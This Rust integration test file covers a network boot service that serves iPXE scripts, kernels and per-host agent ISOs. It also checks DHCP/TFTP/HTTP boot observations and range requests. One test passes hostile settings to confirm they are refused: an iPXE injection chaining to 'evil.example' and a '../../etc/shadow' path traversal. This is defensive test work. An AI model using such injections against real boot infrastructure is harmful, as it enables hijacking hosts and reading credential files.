//! The real boot service: engine entries become `rivet-pxe` host-table entries, served as
//! iPXE scripts by the boot HTTP server; what DHCP, TFTP and HTTP see of each MAC are the
//! boot observations (against busybox udhcpc, atftp and curl in a namespace).

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::sync::Arc;

use rivet_agent::channel::ChannelParams;
use rivet_bmc::Credentials;
use rivet_engine::drivers::boot::{BootSettings, BootSetupError, RealBoot};
use rivet_engine::drivers::{
    AgentToken, BmcTarget, BootEntry, BootService, DriverErrorKind, HostTarget,
};
use rivet_engine::lifecycle::{
    BootMethod, BootMode, BootObservations, HostId, MacAddr, NextLoad, Timestamp,
};
use rivet_tests::{Netns, PXE_BIOS_CLASS, iso, scratch_dir, udhcpc, wait_until};

const CA: &str = "AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89:AB:CD:EF:01:23:45:67:89";
const MAC: MacAddr = MacAddr::new([0x52, 0x54, 0, 0xb0, 0, 7]);

fn settings(files: &std::path::Path) -> BootSettings {
    BootSettings {
        engine_url: "https://10.0.0.1:8443".into(),
        http_listen: "127.0.0.1:0".parse().unwrap(),
        files_root: Some(files.to_owned()),
        ..BootSettings::default()
    }
}

fn target(id: HostId) -> HostTarget {
    HostTarget {
        id,
        name: Arc::from("boot-host"),
        boot_mac: Some(MAC),
        boot_method: BootMethod::NetworkBoot,
        boot_mode: BootMode::Uefi,
        bmc: BmcTarget {
            address: "ipmi://10.0.0.9".into(),
            credentials: Credentials::new("u", "p"),
            verify_tls: true,
        },
    }
}

async fn get(boot: &RealBoot, path: &str) -> (u16, String) {
    let response = reqwest::get(format!("http://{}{path}", boot.http_addr()))
        .await
        .unwrap();
    (response.status().as_u16(), response.text().await.unwrap())
}

#[tokio::test]
async fn agent_entries_boot_the_agent_with_the_channel_parameters() {
    let files = scratch_dir("boot-files");
    std::fs::create_dir_all(files.path().join("rivet-agent")).unwrap();
    std::fs::write(files.path().join("rivet-agent/vmlinuz"), b"kernel bytes").unwrap();
    let state = scratch_dir("boot-state");
    let boot = RealBoot::start(&settings(files.path()), CA, state.path())
        .await
        .unwrap();
    let host = HostId::from_random([7; 16]);
    let token = AgentToken::new("dG9rZW4tZm9yLXRoZS1ib290LXRlc3QtMDEyMzQ1Njc".into());
    let script_path = "/boot/52-54-00-b0-00-07.ipxe";
    let since = Timestamp::now();
    assert_eq!(
        boot.observations(host, Some(MAC), since).agent_fetched,
        None
    );
    assert_eq!(
        get(&boot, script_path).await.0,
        404,
        "no boot until the engine sets one"
    );

    boot.set_entry(
        MAC,
        BootEntry::Agent {
            host,
            token: token.clone(),
        },
    )
    .await
    .unwrap();
    let (status, script) = get(&boot, script_path).await;
    assert_eq!(status, 200, "{script}");
    let kernel = script
        .lines()
        .find(|line| line.starts_with("kernel "))
        .unwrap_or_else(|| panic!("no kernel line in {script}"));
    assert!(kernel.contains("/files/rivet-agent/vmlinuz"), "{kernel}");
    // What the agent will read from /proc/cmdline.
    let params = ChannelParams::from_cmdline(kernel).unwrap();
    assert_eq!(params.url.as_str(), "https://10.0.0.1:8443/");
    assert_eq!(params.token.expose(), token.expose());
    assert_eq!(params.host, Some(host.to_string()));
    assert_eq!(
        params.ca,
        rivet_agent::channel::Fingerprint::parse(CA).unwrap()
    );
    assert!(kernel.contains("console=ttyS0,115200"), "{kernel}");
    // Over loopback, without DHCP: the script's URL names the MAC.
    let seen = boot.observations(host, Some(MAC), since);
    assert!(seen.script_fetched.is_some_and(|at| at >= since));
    assert_eq!(seen.dhcp, None);
    assert_eq!(
        boot.observations(host, Some(MacAddr::new([2; 6])), since),
        Default::default()
    );
    let (status, body) = get(&boot, "/files/rivet-agent/vmlinuz").await;
    assert_eq!((status, body.as_str()), (200, "kernel bytes"));

    // Disk entries chain to the local disk; removed entries get no boot.
    boot.set_entry(MAC, BootEntry::Disk).await.unwrap();
    let (status, script) = get(&boot, script_path).await;
    assert_eq!(status, 200);
    assert!(
        script.contains("local disk") && !script.contains("rivet.token"),
        "{script}"
    );
    boot.remove(MAC).await.unwrap();
    assert_eq!(get(&boot, script_path).await.0, 404);
    assert_eq!(boot.table().len(), 0);

    // No ISO under files_root: virtual media cannot work, and says why.
    let err = boot.agent_iso(&target(host), &token).await.unwrap_err();
    assert_eq!(err.kind, DriverErrorKind::Unsupported);
    assert!(err.message.contains("rivet-agent.iso"), "{}", err.message);
    assert_eq!(
        boot.uefi_http_url(&target(host)),
        format!("http://{}/ipxe/snponly.efi", boot.http_addr())
    );
}

/// The field `RealBoot::start` names when it refuses `settings`.
async fn refused_field(settings: &BootSettings, state: &std::path::Path) -> &'static str {
    match RealBoot::start(settings, CA, state).await.unwrap_err() {
        BootSetupError::Invalid { field, .. } => field,
        other => panic!("expected a refused setting, got {other}"),
    }
}

#[tokio::test]
async fn settings_that_would_inject_ipxe_commands_or_leak_the_token_are_refused() {
    let files = scratch_dir("boot-files");
    let state = scratch_dir("boot-state");
    let mut injected = settings(files.path());
    injected.agent_cmdline = "quiet || chain http://evil.example/x".into();
    assert_eq!(
        refused_field(&injected, state.path()).await,
        "agent_cmdline"
    );
    let mut plain = settings(files.path());
    plain.engine_url = "http://10.0.0.1:8443".into();
    assert_eq!(refused_field(&plain, state.path()).await, "engine_url");
    let mut kernel = settings(files.path());
    kernel.agent_kernel = "../../etc/shadow".into();
    assert_eq!(refused_field(&kernel, state.path()).await, "agent_kernel");
    let err = RealBoot::start(&settings(files.path()), "sha256:12", state.path())
        .await
        .unwrap_err();
    assert!(matches!(err, BootSetupError::Fingerprint(_)), "{err}");
}

#[test]
fn netns_observations_follow_a_real_client_from_dhcp_to_the_agent_files() {
    let server = Netns::new("rbo");
    let client = Netns::new("rbo");
    server.link_client("vs", "10.87.0.1/24", &client, "vc", &MAC.to_string());

    let dir = scratch_dir("boot-observed");
    let files = dir.path().join("files");
    let ipxe = dir.path().join("ipxe");
    std::fs::create_dir_all(files.join("rivet-agent")).unwrap();
    std::fs::create_dir(&ipxe).unwrap();
    std::fs::write(files.join("rivet-agent/vmlinuz"), b"kernel bytes").unwrap();
    std::fs::write(ipxe.join("undionly.kpxe"), b"iPXE for BIOS").unwrap();
    let state = dir.path().join("state");
    std::fs::create_dir(&state).unwrap();
    let settings = BootSettings {
        engine_url: "https://10.87.0.1:8443".into(),
        http_listen: "10.87.0.1:8080".parse().unwrap(),
        interface: Some("vs".into()),
        server_ip: Some("10.87.0.1".parse().unwrap()),
        dhcp: rivet_engine::drivers::boot::DhcpChoice::Authoritative,
        dhcp_pool: Some((
            "10.87.0.100".parse().unwrap(),
            "10.87.0.110".parse().unwrap(),
        )),
        tftp: true,
        ipxe_root: ipxe,
        files_root: Some(files),
        ..BootSettings::default()
    };
    let host = HostId::from_random([9; 16]);
    let (started, boot) = std::sync::mpsc::channel();
    let (remove, removal) = tokio::sync::oneshot::channel::<()>();
    let (stop, stopped) = tokio::sync::oneshot::channel::<()>();
    let services = server.spawn_inside(move || {
        let runtime = tokio::runtime::Builder::new_current_thread()
            .enable_all()
            .build()
            .unwrap();
        runtime.block_on(async move {
            let boot = RealBoot::start(&settings, CA, &state).await.unwrap();
            let token = AgentToken::new("dG9rZW4tZm9yLXRoZS1uZXRucy10ZXN0LTAxMjM0NTY3".into());
            boot.set_entry(MAC, BootEntry::Agent { host, token })
                .await
                .unwrap();
            started.send(boot.clone()).unwrap();
            removal.await.unwrap();
            boot.remove(MAC).await.unwrap();
            stopped.await.ok();
        });
    });
    let boot: Arc<RealBoot> = boot
        .recv_timeout(std::time::Duration::from_secs(30))
        .expect("the boot services start");
    let since = Timestamp::now();
    assert_eq!(
        boot.observations(host, Some(MAC), since),
        BootObservations::default()
    );

    let address = udhcpc(&client, "vc", Some(PXE_BIOS_CLASS), 5).expect("the host gets an address");
    let seen = boot.observations(host, Some(MAC), since);
    assert!(seen.dhcp.is_some_and(|at| at >= since), "{seen:?}");
    let answered = seen.dhcp_answered.expect("the answer is recorded");
    assert_eq!(answered.next, Some(NextLoad::IpxeOverTftp));
    assert_eq!((seen.dhcp_silence, seen.ipxe_fetched), (None, None));

    // A build that is not there, then iPXE over TFTP, then the script and the kernel over
    // HTTP, attributed by address.
    client.exec_checked(&["ip", "addr", "add", &format!("{address}/24"), "dev", "vc"]);
    let missing = [
        "atftp",
        "--get",
        "-r",
        "snponly.efi",
        "-l",
        "/dev/null",
        "10.87.0.1",
        "69",
    ];
    assert!(!client.output(&missing).status.success());
    wait_until(
        "the TFTP refusal to be recorded",
        std::time::Duration::from_secs(10),
        || {
            boot.observations(host, Some(MAC), since)
                .ipxe_refused
                .as_deref()
                == Some("TFTP read of snponly.efi was refused: file not found")
        },
    );
    let fetched = dir.path().join("undionly.kpxe");
    let local = fetched.to_str().unwrap();
    let tftp = client.output(&[
        "atftp",
        "--get",
        "-r",
        "undionly.kpxe",
        "-l",
        local,
        "10.87.0.1",
        "69",
    ]);
    assert!(tftp.status.success(), "atftp: {tftp:?}");
    wait_until(
        "the TFTP read to be recorded",
        std::time::Duration::from_secs(10),
        || {
            boot.observations(host, Some(MAC), since)
                .ipxe_fetched
                .is_some()
        },
    );
    for path in ["/boot/52-54-00-b0-00-07.ipxe", "/files/rivet-agent/vmlinuz"] {
        let url = format!("http://10.87.0.1:8080{path}");
        let curl = client.output(&["curl", "-sf", "-o", "/dev/null", &url]);
        assert!(curl.status.success(), "curl {url}: {curl:?}");
    }
    let seen = boot.observations(host, Some(MAC), since);
    assert!(seen.script_fetched.is_some(), "{seen:?}");
    assert!(seen.agent_fetched.is_some(), "{seen:?}");

    // Once the engine removes the entry, the host is unknown and Rivet stays silent.
    client.exec_checked(&["ip", "addr", "flush", "dev", "vc"]);
    remove.send(()).unwrap();
    wait_until(
        "the entry to be removed",
        std::time::Duration::from_secs(10),
        || boot.table().is_empty(),
    );
    let later = Timestamp::now();
    assert_eq!(udhcpc(&client, "vc", Some(PXE_BIOS_CLASS), 2), None);
    let seen = boot.observations(host, Some(MAC), later);
    assert_eq!(
        seen.dhcp_silence.as_deref(),
        Some("unknown host"),
        "{seen:?}"
    );
    assert_eq!(seen.dhcp_answered, None);
    drop(boot);
    stop.send(()).unwrap();
    services.join().unwrap();
}

/// An agent ISO at `<dir>/rivet-agent/rivet-agent.iso` (where the boot settings look), with
/// the slot carrying a word of its own, or from before the slot.
fn template_iso(dir: &std::path::Path, slot: bool) -> std::path::PathBuf {
    let iso = dir.join("rivet-agent/rivet-agent.iso");
    let cmdline = if slot {
        iso::cmdline_slot("rivet.link_timeout=5")
    } else {
        "rivet.job=inventory\n".to_owned()
    };
    iso::agent_iso(&iso, &cmdline);
    iso
}

#[tokio::test]
async fn virtual_media_hosts_get_their_own_iso_with_the_channel_parameters() {
    let files = scratch_dir("iso-files");
    let template = template_iso(files.path(), true);
    let state = scratch_dir("iso-state");
    let boot = RealBoot::start(&settings(files.path()), CA, state.path())
        .await
        .unwrap();
    let (first, second) = (HostId::from_random([1; 16]), HostId::from_random([2; 16]));
    let token = AgentToken::new("aXNvLXRva2VuLWZvci10aGUtdmlydHVhbC1tZWRpYS10ZXN0".into());
    let since = Timestamp::now();
    let url = boot.agent_iso(&target(first), &token).await.unwrap();
    let other = boot
        .agent_iso(&target(second), &AgentToken::new("b3RoZXI".into()))
        .await
        .unwrap();
    assert!(
        url.ends_with("/rivet-agent.iso") && url != other,
        "{url} {other}"
    );
    assert!(
        !url.contains(token.expose()),
        "the token stays out of the URL"
    );
    assert_eq!(boot.observations(first, None, since).agent_fetched, None);

    let client = reqwest::Client::new();
    let whole = client.get(&url).send().await.unwrap();
    assert_eq!(whole.status(), 200);
    assert_eq!(whole.headers()["accept-ranges"], "bytes");
    let bytes = whole.bytes().await.unwrap();
    let template_bytes = std::fs::read(&template).unwrap();
    assert_eq!(bytes.len(), template_bytes.len());
    assert!(
        boot.observations(first, None, since)
            .agent_fetched
            .is_some()
    );
    assert_eq!(boot.observations(second, None, since).agent_fetched, None);

    // xorriso reads the host's ISO as a sound ISO whose cmdline is the agent's parameters.
    let host_iso = files.path().join("host.iso");
    std::fs::write(&host_iso, &bytes).unwrap();
    let line = String::from_utf8(iso::extract(&host_iso, "/rivet/cmdline")).unwrap();
    assert_eq!(line.len(), 4096);
    let params = ChannelParams::from_cmdline(&line).unwrap();
    assert_eq!(params.token.expose(), token.expose());
    assert_eq!(params.host, Some(first.to_string()));
    assert_eq!(params.url.as_str(), "https://10.0.0.1:8443/");
    assert!(
        line.contains("rivet.link_timeout=5"),
        "the template's own parameters stay: {line}"
    );
    assert!(!line.contains("rivet-cmdline-slot"), "{line}");
    let differing = bytes
        .iter()
        .zip(&template_bytes)
        .filter(|(a, b)| a != b)
        .count();
    assert!(
        differing > 0 && differing <= 4096,
        "{differing} bytes differ"
    );

    // A BMC that mounts the ISO reads it by ranges.
    let part = client
        .get(&url)
        .header("range", "bytes=32768-34815")
        .send()
        .await
        .unwrap();
    assert_eq!(part.status(), 206);
    let total = bytes.len();
    assert_eq!(
        part.headers()["content-range"],
        format!("bytes 32768-34815/{total}").as_str()
    );
    assert_eq!(part.bytes().await.unwrap(), bytes.slice(32768..34816));
    let past = client
        .get(&url)
        .header("range", format!("bytes={total}-"))
        .send()
        .await
        .unwrap();
    assert_eq!(past.status(), 416);

    // A new ISO for the same host replaces the old one; unknown nonces are 404.
    let again = boot.agent_iso(&target(first), &token).await.unwrap();
    assert_ne!(again, url);
    assert_eq!(client.get(&url).send().await.unwrap().status(), 404);
    assert_eq!(client.get(&again).send().await.unwrap().status(), 200);
    let guessed = format!(
        "http://{}/iso/{}/rivet-agent.iso",
        boot.http_addr(),
        "0".repeat(32)
    );
    assert_eq!(client.get(&guessed).send().await.unwrap().status(), 404);
}

#[tokio::test]
async fn an_agent_iso_without_the_slot_is_refused_with_the_fix() {
    let files = scratch_dir("iso-old");
    template_iso(files.path(), false);
    let state = scratch_dir("iso-old-state");
    let boot = RealBoot::start(&settings(files.path()), CA, state.path())
        .await
        .unwrap();
    let err = boot
        .agent_iso(
            &target(HostId::from_random([3; 16])),
            &AgentToken::new("dA".into()),
        )
        .await
        .unwrap_err();
    assert_eq!(err.kind, DriverErrorKind::Unsupported);
    assert!(
        err.message.contains("no rivet/cmdline slot") && err.message.contains("just agent-image"),
        "{}",
        err.message
    );
}
